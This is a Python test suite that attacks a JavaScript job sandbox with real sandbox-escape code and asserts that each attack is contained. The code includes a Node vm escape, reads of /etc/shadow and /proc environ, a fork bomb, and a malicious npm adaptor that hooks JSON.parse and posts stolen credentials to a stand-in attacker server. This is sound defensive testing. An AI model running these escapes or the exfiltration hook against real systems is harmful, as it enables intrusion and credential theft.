"""Issue 15's JavaScript path, tried as a hostile job author would: real Node.js, OpenFn's real
runtime, each run in a real sandboxed child at level 3, a real worker where the worker's own
secrets are at stake.

Node's ``vm`` context is no boundary: an adaptor's function is from Node's own realm, and its
constructor compiles code there (``fn.constructor('return process')()``), which reaches
Node's ``process``, ``process.binding(...)`` and every built-in module. Every attack below
starts from there (``ESCAPE``) and assumes the job has all of Node's power inside the
sandbox; each test asserts what the sandbox promises (README, "JavaScript jobs" and
"Security model"), so that it passes while the promise holds and fails when an attack gets
through. Spares that start a run's Node before the run arrives ("prestart") get tests of
their own: their Node was made before its run, so whatever it holds then is what a hostile
run could leave for the next one.

The last tests attack the worker's install path (``fulmen.packages.npm``) with what a plan
names as an adaptor: it runs outside the sandbox, as the worker.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import io
import json
import socket
import subprocess
import sys
import tarfile
import threading
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from fulmen.config import SandboxSettings
from fulmen.errors import AdaptorError
from fulmen.execution import Defaults, JavaScript, RunRequest, start, start_zygote
from fulmen.packages.npm import NpmRepo
from fulmen.plan import OPENFN_PREFIX, Plan
from fulmen.runtime.events import LogLine
from fulmen.sandbox import Zygote
from fulmen.worker.health import HealthServer, Metrics, Status
from fulmen_testing.javascript import COMMON, Run
from fulmen_testing.processes import left_after
from fulmen_testing.worker import Lightning, ScriptedRun, keys, private_key, running, settings_for
from fulmen_testing.worker import plan as lightning_plan

pytestmark = pytest.mark.timeout(120)

UID_BASE = 200_000
"""``Zygote.start``'s default: every host uid a run gets is at least this."""

ESCAPE = r"""
  const process = fn.constructor('return process')();
  const fs = process.getBuiltinModule('fs');
  const net = process.getBuiltinModule('net');
  const childProcess = process.getBuiltinModule('child_process');
  // What an attempt came to: 'allowed', the value it returned, or the error's code.
  const attempt = (action) => {
    try {
      const value = action();
      return value === undefined ? 'allowed' : value;
    } catch (error) {
      return error.code || String(error);
    }
  };
  const connect = (host, port) => new Promise((resolve) => {
    const socket = net.connect({ host, port });
    const done = (result) => { clearTimeout(timer); socket.destroy(); resolve(result); };
    const timer = setTimeout(() => done('ETIMEDOUT'), 3000);
    socket.on('connect', () => done('allowed'));
    socket.on('error', (error) => done(error.code));
  });
  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  // The descriptors Node holds, by number, with their type (S_IFMT bits, octal).
  const descriptors = () => {
    const found = {};
    for (let fd = 0; fd < 1024; fd++) {
      const stat = attempt(() => fs.fstatSync(fd));
      if (typeof stat === 'object') found[fd] = (stat.mode & 0o170000).toString(8);
    }
    return found;
  };
  const hostUid = fs.readFileSync('/proc/1/uid_map', 'utf8').trim().split(/\s+/)[1];
  const nodeStarted = Date.now() - process.uptime() * 1000;
  console.log('host uid', hostUid);
"""
"""The prelude of every attack: Node's own ``process`` and modules, and a few helpers. The run's
host uid (from the run's uid map) goes to the log first, so that a test can look for what the
run left on the host even if the run is killed."""

CLEAN_ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin", "NODE_ENV": "production"}
"""All of the environment Node gets (``jshost._Node.spawn``)."""
SOCKET_TYPE = "140000"
"""``S_IFSOCK`` as ``descriptors()`` writes it."""


def attack(code: str) -> str:
    """A one-operation job body: ``ESCAPE``, then ``code``, which returns the job's state."""
    return "fn(async state => {\n" + ESCAPE + code + "\n});\n"


def js_plan(body: str, *, adaptor: str = COMMON, credential: bool = False, **options: Any) -> Plan:
    job: dict[str, Any] = {"id": "attack", "body": body, "adaptor": adaptor}
    if not adaptor.startswith(OPENFN_PREFIX):
        job["language"] = "javascript"
    if credential:
        job["credential_id"] = "c"
    plan_options: dict[str, Any] = {"run_timeout_ms": 30_000, **options}
    return Plan.from_wire({"id": "attack", "jobs": [job], "options": plan_options})


@contextlib.asynccontextmanager
async def sandbox(javascript: JavaScript, *, allow: tuple[str, ...] = ()) -> AsyncIterator[Zygote]:
    async with await start_zygote(SandboxSettings(allow_net=allow), javascript) as zygote:
        yield zygote


@dataclass
class Attack:
    """One run's events, when it was asked for, and what a test reads off them."""

    run: Run
    asked_at: float = field(default_factory=time.time)
    took: float = 0.0
    #: The processes of the run's host uid still there once it had ended (looked for while
    #: its zygote still runs: a zygote's end would take them with it).
    left: list[int] = field(default_factory=list)

    @property
    def data(self) -> Any:
        final = self.run.final
        assert isinstance(final, dict), self.run.events[-4:]
        return final["data"]

    @property
    def host_uid(self) -> int:
        [line] = [x for x in self.run.lines("JOB") if x.startswith("host uid ")]
        uid = int(line.split()[-1])
        assert uid >= UID_BASE
        return uid

    @property
    def outcome(self) -> tuple[str, str | None]:
        return self.run.complete.reason, self.run.complete.error_type

    def everything(self) -> str:
        return json.dumps([repr(e) for e in self.run.events])


async def attack_run(
    zygote: Zygote,
    javascript: JavaScript,
    plan: Plan,
    credentials: dict[str, Any] | None = None,
    input: dict[str, Any] | None = None,
) -> Attack:
    asked_at, started = time.time(), time.monotonic()
    request = RunRequest(plan, input or {"data": {}}, {"c": credentials} if credentials else {})
    execution = await start(zygote, request, Defaults(), javascript)
    events = [event async for event in execution]
    result = Attack(Run(events), asked_at, time.monotonic() - started)
    if any(line.startswith("host uid ") for line in result.run.lines("JOB")):
        result.left = await asyncio.to_thread(left_after, result.host_uid)
    return result


def run_attacks(
    javascript: JavaScript,
    plans: list[tuple[Plan, dict[str, Any] | None]],
    *,
    allow: tuple[str, ...] = (),
    pause: float = 0.5,
) -> list[Attack]:
    """The runs one after another on one zygote, as a worker makes them; ``pause`` between
    them lets a spare fork and start Node, so that from the third JavaScript run on, each run
    adopts a Node its spare started before the run arrived (see ``prestarted``)."""

    async def main() -> list[Attack]:
        results = []
        async with sandbox(javascript, allow=allow) as zygote, asyncio.timeout(100):
            for plan, credentials in plans:
                results.append(await attack_run(zygote, javascript, plan, credentials))
                await asyncio.sleep(pause)
        return results

    return asyncio.run(main())


def prestarted(result: Attack) -> bool:
    """The run's Node was started before the run was asked for (by its spare)."""
    return float(result.data["nodeStarted"]) < result.asked_at * 1000


@contextlib.contextmanager
def listening() -> Iterator[socket.socket]:
    """A TCP service on the host's loopback (it accepts nothing; connecting is the test)."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(16)
        yield server


def single(
    javascript: JavaScript,
    plan: Plan,
    *,
    input: dict[str, Any] | None = None,
    credentials: dict[str, Any] | None = None,
    allow: tuple[str, ...] = (),
) -> Attack:
    """One run on a zygote of its own (its Node is started by the run: no spare warmed yet)."""

    async def main() -> Attack:
        async with sandbox(javascript, allow=allow) as zygote, asyncio.timeout(60):
            return await attack_run(zygote, javascript, plan, credentials, input)

    return asyncio.run(main())


def assert_failed(tried: dict[str, Any]) -> None:
    allowed = {name: result for name, result in tried.items() if result == "allowed"}
    assert not allowed, f"attacks that got through: {allowed}"


# -- 1. the host's files --------------------------------------------------------------------


def test_node_reads_the_repository_and_writes_only_its_own_directory(
    javascript: JavaScript, tmp_path: Path
) -> None:
    """The worker's data (here a sibling of the repository), ``/root``, ``/etc/shadow``, the
    Python environment and the repository itself: nothing of them can be written, and nothing
    but the repository and the interpreter's files read. A link made in the run's directory
    leads nowhere new."""
    data = tmp_path / "worker-data"
    data.mkdir()
    (data / "secret").write_text("worker-data-secret-5150")
    repo = javascript.repo.root
    [host] = [p for p in (repo / "host").iterdir() if p.is_dir()]
    adaptor = repo / "adaptors" / COMMON.replace("/", "+")
    before = sorted(str(p) for p in repo.rglob("*"))
    targets = {
        "data": str(data),
        "secret": str(data / "secret"),
        "repo": str(repo),
        "host": str(host / "host.mjs"),
        "adaptor": str(adaptor),
        "venv": sys.prefix,
    }
    code = r"""
  const t = state.data.targets;
  const tried = {
    readHost: attempt(() => { fs.readFileSync(t.host); }),
    readSecret: attempt(() => { fs.readFileSync(t.secret); }),
    listData: attempt(() => { fs.readdirSync(t.data); }),
    readShadow: attempt(() => { fs.readFileSync('/etc/shadow'); }),
    listRoot: attempt(() => { fs.readdirSync('/root'); }),
    writeRepo: attempt(() => fs.writeFileSync(t.repo + '/planted', 'x')),
    writeHost: attempt(() => fs.writeFileSync(t.host, 'process.exit(0)')),
    appendHost: attempt(() => fs.appendFileSync(t.host, '\n// planted')),
    writeAdaptor: attempt(() => fs.writeFileSync(t.adaptor + '/planted', 'x')),
    renameAdaptor: attempt(() => fs.renameSync(t.adaptor, t.adaptor + '.moved')),
    chmodHost: attempt(() => fs.chmodSync(t.host, 0o777)),
    writeVenv: attempt(() => fs.writeFileSync(t.venv + '/planted', 'x')),
    writeUsr: attempt(() => fs.writeFileSync('/usr/planted', 'x')),
    writeJob: attempt(() => fs.writeFileSync('/job/mine', 'x')),
    symlink: attempt(() => fs.symlinkSync(t.secret, '/job/link')),
    readThroughLink: attempt(() => { fs.readFileSync('/job/link'); }),
    hardlinkHost: attempt(() => fs.linkSync(t.host, '/job/host.mjs')),
  };
  return { data: { tried, nodeStarted } };
"""
    result = single(javascript, js_plan(attack(code)), input={"data": {"targets": targets}})

    tried = result.data["tried"]
    assert tried.pop("readHost") == "allowed", tried  # runs read the repository
    assert tried.pop("writeJob") == "allowed", tried  # and write their own directory
    assert tried.pop("symlink") == "allowed", tried  # a link there is only a name
    assert_failed(tried)
    assert sorted(str(p) for p in repo.rglob("*")) == before
    assert not Path(sys.prefix, "planted").exists()
    assert "worker-data-secret-5150" not in result.everything()


# -- 2. the host's loopback -----------------------------------------------------------------


def test_node_reaches_none_of_the_host_s_loopback_services(javascript: JavaScript) -> None:
    """PostgreSQL and Redis on this host's loopback, and a worker's real health endpoint: not
    from Node either, by any of the loopback's names. A port the operator allows is reached
    (so the probe itself works), and only that one."""

    code = r"""
  const { health, allowed } = state.data;
  const tried = {
    health: await connect('127.0.0.1', health),
    healthByName: await connect('localhost', health),
    healthOther: await connect('127.1.2.3', health),
    postgres: await connect('127.0.0.1', 5432),
    redis: await connect('127.0.0.1', 6379),
    redis6: await connect('::1', 6379),
    allowed: await connect('127.0.0.1', allowed),
  };
  return { data: { tried, nodeStarted } };
"""

    async def main() -> Attack:
        health = HealthServer(Metrics(), lambda: Status(True, 0, 1, "L3"), host="127.0.0.1", port=0)
        await health.start()
        try:
            with listening() as allowed:
                port = allowed.getsockname()[1]
                input = {"data": {"health": health.port, "allowed": port}}
                async with sandbox(javascript, allow=(f"127.0.0.1:{port}",)) as zygote:
                    return await attack_run(zygote, javascript, js_plan(attack(code)), input=input)
        finally:
            await health.close()

    result = asyncio.run(main())

    tried = result.data["tried"]
    assert tried.pop("allowed") == "allowed", tried
    assert_failed(tried)


# -- 3. processes ---------------------------------------------------------------------------


def test_a_fork_bomb_through_spawn_sync_and_a_daemon_leave_nothing_behind(
    javascript: JavaScript,
) -> None:
    """``process.binding('spawn_sync')`` (no ``child_process`` needed) starts a shell fork
    bomb, ``child_process`` a daemon that ignores every catchable signal, and the job takes
    every descriptor it can: the run's limits stop the bomb and the descriptors, the run still
    ends, and once it has, no process of its host uid is left."""
    code = r"""
  const spawnSync = process.binding('spawn_sync');
  const ignore = [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }];
  const bomb = spawnSync.spawn({
    file: '/usr/bin/sh',
    // As many processes as the shell can start, each one staying (a bomb that collapses as
    // soon as fork fails would prove nothing).
    args: ['sh', '-c', 'i=0; while [ $i -lt 1000 ]; do sleep 1000 & i=$((i + 1)); done'],
    envPairs: ['PATH=/usr/bin'],
    stdio: ignore,
    detached: true,
    timeout: 4000,
    killSignal: 9,
  });
  childProcess.spawn(
    '/usr/bin/sh', ['-c', 'trap "" HUP INT TERM; while :; do sleep 1; done'],
    { detached: true, stdio: 'ignore' },
  ).unref();
  const after = attempt(() => childProcess.execFileSync('/usr/bin/true'));
  const opened = [];
  const exhausted = attempt(() => { for (;;) opened.push(fs.openSync('/dev/null', 'r')); });
  return { data: { bomb: bomb.error ?? bomb.status, after, exhausted, opened: opened.length } };
"""
    result = single(javascript, js_plan(attack(code), run_timeout_ms=20_000))

    assert result.outcome == ("success", None), result.run.events[-3:]
    assert result.data["after"] == "EAGAIN"  # the bomb ran into the run's process limit
    # Node still answered with its descriptors all taken, and took no more than the run's.
    assert result.data["exhausted"] == "EMFILE" and result.data["opened"] < 256
    assert result.left == []


# -- 4. other runs --------------------------------------------------------------------------


PLANT = r"""
  const secret = state.configuration.token;
  globalThis.planted = secret;
  fn.constructor('return globalThis')().planted = secret;
  process.env.PLANTED = secret;
  const tried = {
    job: attempt(() => fs.writeFileSync('/job/planted', secret)),
    tmp: attempt(() => fs.writeFileSync('/tmp/planted', secret)),
  };
  setInterval(() => attempt(() => fs.appendFileSync('/job/ticks', secret)), 50).unref();
  const server = net.createServer((socket) => socket.end(secret));
  server.listen('\0fulmen-planted');
  server.unref();
  childProcess.spawn(
    '/usr/bin/sh', ['-c', 'trap "" HUP INT TERM; while :; do sleep 1; done'],
    { detached: true, stdio: 'ignore' },
  ).unref();
  await sleep(200);
  return { data: { tried, nodeStarted } };
"""
"""A run leaving what it can: its credential in globals of both realms, Node's environment,
files, a timer, an abstract socket, and a daemon."""

LOOK = r"""
  const read = (path) => attempt(() => fs.readFileSync(path, 'utf8'));
  const limits = attempt(() => childProcess.execFileSync(
    '/usr/bin/sh', ['-c', 'ulimit -n; ulimit -p; ulimit -c; ulimit -f'], { encoding: 'utf8' },
  ));
  const found = {
    global: String(globalThis.planted),
    nodeGlobal: String(fn.constructor('return globalThis')().planted),
    env: process.env,
    job: read('/job/planted'),
    tmp: read('/tmp/planted'),
    ticks: read('/job/ticks'),
    socket: await new Promise((resolve) => {
      const socket = net.connect('\0fulmen-planted');
      socket.on('data', (data) => resolve(String(data)));
      socket.on('error', (error) => resolve(error.code));
    }),
  };
  return { data: { found, limits, descriptors: descriptors(), nodeStarted } };
"""
"""A later run looking for it, and at the limits and descriptors of its own Node."""

HOG = r"""
  const hog = 'const a = []; for (let i = 0; i < 150; i++) a.push(Buffer.alloc(1 << 20, 1));'
    + ' setInterval(() => {}, 1000);';
  for (let i = 0; i < 4; i++) {
    childProcess.spawn('/usr/bin/node', ['-e', hog], { stdio: 'ignore' });
  }
  await new Promise(() => {});
"""
"""Memory in processes Node starts (4 x 150 MB): the run's cgroup counts them all."""


def test_runs_on_one_zygote_with_early_node_leave_nothing_to_each_other(
    javascript: JavaScript,
) -> None:
    """Two runs plant their credential everywhere they can; the next runs, whose Node their
    spares started before they arrived, find nothing of it, and are held to their own limits:
    the rlimits given to that Node afterwards, no descriptor to the zygote or a socket of any
    kind, the cgroup's memory limit over the processes it starts."""
    secret = {"token": "tok-planted-9911"}
    plant = js_plan(attack(PLANT), credential=True)
    look = js_plan(attack(LOOK))
    hog = js_plan(attack(HOG), run_memory_limit_mb=300)

    results = run_attacks(
        javascript, [(plant, secret), (plant, secret), (look, None), (look, None), (hog, None)]
    )

    planters, lookers, hogger = results[:2], results[2:4], results[4]
    assert [r.outcome for r in planters] == [("success", None)] * 2
    assert all(r.data["tried"]["job"] == "allowed" for r in planters)
    for planter in planters:
        assert planter.left == [], "the planter's daemon outlived its run"
    for looker in lookers:
        assert looker.outcome == ("success", None), looker.run.events[-3:]
        assert prestarted(looker), "this run's Node was not started by its spare"
        found = looker.data["found"]
        assert found.pop("env") == CLEAN_ENV
        assert found["global"] == found["nodeGlobal"] == "undefined"
        assert found["job"] == found["ticks"] == "ENOENT"
        assert found["tmp"] in ("ENOENT", "EACCES")
        assert found["socket"] in ("ECONNREFUSED", "ENOENT", "EPERM")
        assert "tok-planted-9911" not in looker.everything()
        # nofile, nproc, core, file size (dash counts 512-byte blocks): the run's, given to
        # its Node after the fact (prlimit).
        assert looker.data["limits"].split() == ["256", "64", "0", str(64 * 2048)]
        types = looker.data["descriptors"]
        assert SOCKET_TYPE not in types.values(), types
    assert hogger.outcome == ("kill", "OOMError"), hogger.run.events[-3:]
    assert hogger.left == []


def test_a_concurrent_run_cannot_reach_another_run_s_node(javascript: JavaScript) -> None:
    """Run A holds its credential in Node and serves it on an abstract Unix socket; run B,
    at the same time on the same zygote, tries that socket, signals everything it can, and
    looks for A's processes and files. A finishes unharmed and B got nothing."""
    a_code = r"""
  const secret = state.configuration.token;
  const server = net.createServer((socket) => socket.end(secret));
  server.listen('\0fulmen-run-a');
  fs.writeFileSync('/job/a', secret);
  await sleep(4000);
  server.close();
  return { data: { intact: fs.readFileSync('/job/a', 'utf8') === secret, nodeStarted } };
"""
    b_code = r"""
  await sleep(1500);
  const tried = {
    socket: await new Promise((resolve) => {
      const socket = net.connect('\0fulmen-run-a');
      socket.on('data', (data) => resolve(String(data)));
      socket.on('error', (error) => resolve(error.code));
    }),
    file: attempt(() => fs.readFileSync('/job/a', 'utf8')),
    proc: attempt(() => fs.readdirSync('/proc')),
    signalAll: attempt(() => { process.kill(-1, 'SIGKILL'); }),
  };
  const others = {};
  for (let pid = 2; pid < 64; pid++) {
    const environ = attempt(() => fs.readFileSync(`/proc/${pid}/environ`, 'utf8'));
    if (environ !== 'ENOENT') others[pid] = environ;
  }
  return { data: { tried, others, nodeStarted } };
"""

    async def main() -> tuple[Attack, Attack]:
        async with sandbox(javascript) as zygote, asyncio.timeout(60):
            a = asyncio.create_task(
                attack_run(
                    zygote, javascript, js_plan(attack(a_code), credential=True),
                    {"token": "tok-of-run-a-7070"},
                )
            )  # fmt: skip
            await asyncio.sleep(0.3)
            b = await attack_run(zygote, javascript, js_plan(attack(b_code)))
            return await a, b

    a, b = asyncio.run(main())

    assert a.outcome == ("success", None), a.run.events[-3:]
    assert a.data["intact"] is True
    assert a.left == b.left == []
    assert b.host_uid != a.host_uid
    tried = b.data["tried"]
    assert tried["socket"] != "tok-of-run-a-7070"
    assert tried["socket"] in ("EPERM", "ECONNREFUSED", "EACCES"), tried
    assert tried["file"] == "ENOENT"
    assert "tok-of-run-a-7070" not in b.everything()
    assert all(v in ("EACCES", "EPERM") for v in b.data["others"].values()), b.data["others"]


# -- 4, continued: what an earlier run's adaptors leave in a spare's Node ------------------

ADAPTOR_VERSION = "1.0.0"
HOOK_PACKAGE = "fulmen-escape-warm-hook"
HOOK_SOURCE = r"""import http from 'node:http';
// Module code: it runs wherever this package is imported, a spare's warm-up included, which
// happens before the run that will adopt this Node (and its requests) has arrived.
const parse = JSON.parse;
JSON.parse = function (text, reviver) {
  const value = parse.call(this, text, reviver);
  if (value && value.op === 'step') {
    const loot = JSON.stringify(value.state?.configuration ?? null);
    const request = http.request({ host: '127.0.0.1', port: PORT, method: 'POST', path: '/loot' });
    request.on('error', () => {});
    request.end(loot);
  }
  return value;
};
export const fn = (operation) => (state) => operation(state);
"""
"""An adaptor package a hostile job author publishes: it waits in the host realm's
``JSON.parse`` (``host.mjs`` reads each request with it) and sends every step's credentials
home (``PORT``: the registry's, which stands for the attacker's server too)."""
HEAVY_PACKAGE = f"{OPENFN_PREFIX}fulmen-escape-heavy"
HEAVY_SOURCE = r"""// What a large dependency tree costs, in one place: 200 MB held once imported.
globalThis.ballast = Array.from({ length: 200 }, () => Buffer.alloc(1 << 20, 1));
export const fn = (operation) => (state) => operation(state);
"""
"""An adaptor that is only big: no hostile code, just the memory its dependencies take, as
some of OpenFn's have (served by the test's registry, which stands for npm's)."""


def _tarball(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"package/{name}")
            info.size, info.mode, info.mtime = len(data), 0o644, 0
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@dataclass
class Registry:
    """An npm registry on loopback serving the packages a test publishes on it, which is also
    where a hostile package sends what it finds (``loot``)."""

    port: int
    files: dict[str, bytes] = field(default_factory=dict)
    loot: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def publish(self, name: str, source: str) -> None:
        """``name@ADAPTOR_VERSION``, an ES module whose ``index.js`` is ``source``."""
        manifest = {"name": name, "version": ADAPTOR_VERSION, "type": "module", "main": "index.js"}
        tarball = _tarball(
            {
                "package.json": json.dumps(manifest),
                "index.js": source.replace("PORT", str(self.port)),
            }
        )
        path = f"{name}/-/{name}-{ADAPTOR_VERSION}.tgz"
        dist = {
            "tarball": f"{self.url}{path}",
            "shasum": hashlib.sha1(tarball).hexdigest(),
            "integrity": "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode(),
        }
        self.files[path] = tarball
        self.files[name] = json.dumps(
            {
                "name": name,
                "dist-tags": {"latest": ADAPTOR_VERSION},
                "versions": {ADAPTOR_VERSION: {**manifest, "dist": dist}},
            }
        ).encode()


@contextlib.contextmanager
def registry(monkeypatch: pytest.MonkeyPatch, cache: Path) -> Iterator[Registry]:
    """A :class:`Registry`, made the registry of the worker's npm (its own settings, through
    npm's environment variables, as an operator's ``.npmrc`` would), with a cache of its own."""
    found = Registry(0)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = found.files.get(unquote(self.path).lstrip("/"))
            self.send_response(200 if body is not None else 404)
            self.send_header("content-length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"")

        def do_POST(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            found.loot.append(self.rfile.read(length).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.port = server.server_address[1]
    monkeypatch.setenv("npm_config_registry", found.url)
    monkeypatch.setenv("npm_config_cache", str(cache))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("package", [HOOK_PACKAGE, f"{OPENFN_PREFIX}fulmen-escape-hook"])
def test_a_spare_s_early_node_runs_no_code_an_earlier_run_chose(
    javascript: JavaScript, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, package: str
) -> None:
    """A hostile run names an adaptor whose code is its author's: any npm package (which a
    worker may refuse outright: then the later runs must simply succeed), or a version of an
    ``@openfn/language-*`` name the worker's registry serves with such code (a compromised
    or look-alike release, a private registry). The worker installs it (scripts off) and runs
    it in that run's sandbox. But a spare forked meanwhile warms its Node up with the last
    runs' adaptors, and the next run adopts that Node: another tenant's run, with its
    credentials, must not be handled by a process in which the earlier run's package has
    already run."""
    with registry(monkeypatch, tmp_path / "npm-cache") as evil:
        evil.publish(package, HOOK_SOURCE)
        hostile = js_plan("fn(state => state)", adaptor=f"{package}@{ADAPTOR_VERSION}")
        victim = js_plan("fn(state => ({ data: { done: true } }))", credential=True)
        results = run_attacks(
            javascript,
            [
                (hostile, None),
                (hostile, None),
                (victim, {"token": "tok-victim-3141"}),
                (victim, {"token": "tok-victim-2718"}),
            ],
            allow=(f"127.0.0.1:{evil.port}",),
        )
        time.sleep(0.5)  # a request Node sent at the very end is in the server's hands now

    victims = results[2:]
    assert [r.outcome for r in victims] == [("success", None)] * 2, [r.outcome for r in victims]
    stolen = [loot for loot in evil.loot if "tok-victim" in loot]
    assert stolen == [], f"the earlier run's adaptor sent home: {stolen}"


def test_an_earlier_run_s_big_adaptor_does_not_cost_a_later_run_its_start(
    javascript: JavaScript, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same warm-up, with nothing hostile: runs with a big adaptor, then runs with a small
    one and a tighter memory limit. Each of the later runs fits its limit on its own; the
    Node its spare warmed up with the big adaptor does not, and must not be what the run
    gets (nor must the run be lost for it, or told the zygote died)."""
    with registry(monkeypatch, tmp_path / "npm-cache") as npm:
        npm.publish(HEAVY_PACKAGE, HEAVY_SOURCE)
        big = js_plan("fn(state => state)", adaptor=f"{HEAVY_PACKAGE}@{ADAPTOR_VERSION}")
        small = js_plan("fn(state => ({ data: { fits: true } }))", run_memory_limit_mb=150)
        results = run_attacks(javascript, [(big, None), (big, None), (small, None), (small, None)])

    assert [r.outcome for r in results] == [("success", None)] * 4, [
        (r.outcome, r.run.complete.error_message) for r in results
    ]
    assert [r.run.final for r in results[2:]] == [{"data": {"fits": True}}] * 2


# -- 5. the worker's secrets ----------------------------------------------------------------


def test_node_under_a_real_worker_holds_none_of_the_worker_s_secrets(
    javascript: JavaScript, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker holds its secret (here in its environment too, as ``fulmen worker`` is given
    it) and each run's token; Node gets a clean environment, and nothing the job can read (its
    parent's environment, memory and command line, every descriptor it holds) gives either,
    nor a way to the zygote: no socket among Node's descriptors."""
    monkeypatch.setenv("WORKER_SECRET", keys().worker_secret)
    code = r"""
  const tried = {
    parentEnviron: attempt(() => fs.readFileSync('/proc/1/environ', 'utf8')),
    parentMem: attempt(() => { fs.readFileSync('/proc/1/mem'); }),
    parentFds: attempt(() => fs.readdirSync('/proc/1/fd')),
    parentCmdline: attempt(() => fs.readFileSync('/proc/1/cmdline', 'utf8')),
  };
  return { data: { env: process.env, tried, descriptors: descriptors(), nodeStarted } };
"""
    job = {"id": "hunt", "body": attack(code), "adaptor": COMMON}

    async def main() -> tuple[list[Any], str]:
        lightning = Lightning(secret=keys().worker_secret, private_key=private_key())
        async with lightning, running(settings_for(lightning), javascript=javascript):
            lightning.enqueue(ScriptedRun("hunt", lightning_plan(job)))
            await lightning.completed("hunt", timeout=60)
            events = lightning.of_run("hunt")
        [token] = [e.payload["token"] for e in events if e.event == "phx_join"]
        return [e.payload for e in events if e.event != "phx_join"], token

    sent, token = asyncio.run(main())

    text = json.dumps(sent)
    assert keys().worker_secret not in text
    assert token not in text
    [complete] = [p for p in sent if isinstance(p, dict) and "final_state" in p]
    assert complete["reason"] == "success", complete
    data = complete["final_state"]["data"]
    assert data["env"] == CLEAN_ENV
    tried = data["tried"]
    assert tried["parentEnviron"] == tried["parentMem"] == tried["parentFds"] == "EACCES"
    assert SOCKET_TYPE not in data["descriptors"].values(), data["descriptors"]


# -- 6. the protocol between Node and the Python child -------------------------------------

FORGE = r"""
  const answers = Number(process.argv[2]);
  const say = (message) => fs.writeSync(answers, JSON.stringify(message) + '\n');
"""
"""Write straight to the descriptor ``host.mjs`` answers on (its one argument)."""


def test_what_job_code_writes_to_the_answer_pipe_is_still_masked(
    javascript: JavaScript,
) -> None:
    """Lines and a step's state forged on Node's answer pipe go through the same masking as
    everything else the run says: the credential does not leave the sandbox by that way."""
    code = (
        FORGE
        + r"""
  const password = state.configuration.password;
  say({ t: 'log', level: 'info', name: 'JOB', message: ['the password is ' + password] });
  say({ t: 'step', state: { data: { leaked: password } }, error: null });
  return { data: { real: password } };
"""
    )
    result = single(
        javascript, js_plan(attack(code), credential=True), credentials={"password": "pw-8086"}
    )

    assert "pw-8086" not in result.everything()
    assert "the password is ***" in result.run.lines("JOB")


def test_node_cannot_speak_with_the_worker_s_voice(javascript: JavaScript) -> None:
    """A run's log lines come from the job (``JOB``), its adaptors (``ADA``) or the runtime
    (``R/T``); ``VER`` and ``RTE`` are the worker's own notes about the run (its versions
    banner, its limits), which Lightning shows as such. Job code writing its own log lines to
    the answer pipe must not be able to pass them off as the worker's."""
    code = (
        FORGE
        + r"""
  say({ t: 'log', level: 'info', name: 'VER', message: ['▸ node 0.0.1 (forged)'] });
  say({ t: 'log', level: 'info', name: 'RTE', message: ['Payload limit: 100000mb (forged)'] });
  return { data: { nodeStarted } };
"""
    )
    result = single(javascript, js_plan(attack(code)))

    assert result.outcome == ("success", None)
    sources = {e.source for e in result.run.events if isinstance(e, LogLine)}
    assert sources <= {"JOB", "ADA", "R/T"}, sources


def test_nonsense_on_the_answer_pipe_crashes_the_run_and_nothing_else(
    javascript: JavaScript,
) -> None:
    """What is not an answer (a line that is no JSON, an answer of the wrong shape, the pipe
    closed under the Python child) ends the run as a crash at once: not a success, not a hang,
    not a sandbox that stops serving (the last run is an ordinary one)."""
    nonsense = {
        "garbage": "fs.writeSync(answers, 'not json\\n');",
        "shape": "say({ t: 'step', state: {}, error: 'not an object' });",
        "closed": "fs.closeSync(answers);",
    }

    async def main() -> list[Attack]:
        results = []
        async with sandbox(javascript) as zygote, asyncio.timeout(90):
            for line in nonsense.values():
                code = FORGE + line + "\n  return { data: { nodeStarted } };"
                results.append(await attack_run(zygote, javascript, js_plan(attack(code))))
            ordinary = js_plan("fn(state => ({ data: { fine: true } }))")
            results.append(await attack_run(zygote, javascript, ordinary))
        return results

    *broken, ordinary = asyncio.run(main())

    assert [r.run.complete.reason for r in broken] == ["crash"] * 3, [r.outcome for r in broken]
    assert all(r.took < 15 for r in broken), [r.took for r in broken]
    assert ordinary.outcome == ("success", None)
    assert ordinary.run.final == {"data": {"fine": True}}


def test_a_node_that_will_not_end_is_ended_at_the_run_s_timeout(javascript: JavaScript) -> None:
    """Node closes its answers, ignores the signals it can and keeps itself busy: the Python
    child is left waiting for it, and the run's timeout ends them both, on time, leaving
    nothing."""
    code = (
        FORGE
        + r"""
  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGPIPE']) process.on(signal, () => {});
  process.on('uncaughtException', () => {});  // host.mjs's own answer fails: Node lives on
  process.on('unhandledRejection', () => {});
  process.stdin.pause();
  fs.closeSync(answers);
  setInterval(() => {}, 100);
  return { data: { nodeStarted } };
"""
    )
    result = single(javascript, js_plan(attack(code), run_timeout_ms=4000))

    assert result.outcome == ("kill", "TimeoutError"), result.run.events[-3:]
    assert result.took < 4 + 5, result.took
    assert result.left == []


def test_a_finished_run_does_not_wait_for_its_job_s_timers(javascript: JavaScript) -> None:
    """A job that leaves a timer behind (an interval, a keep-alive socket): its run has
    finished, and ends then, with its Node. It is not held open until the run's timeout,
    keeping the worker's capacity and the run's result."""
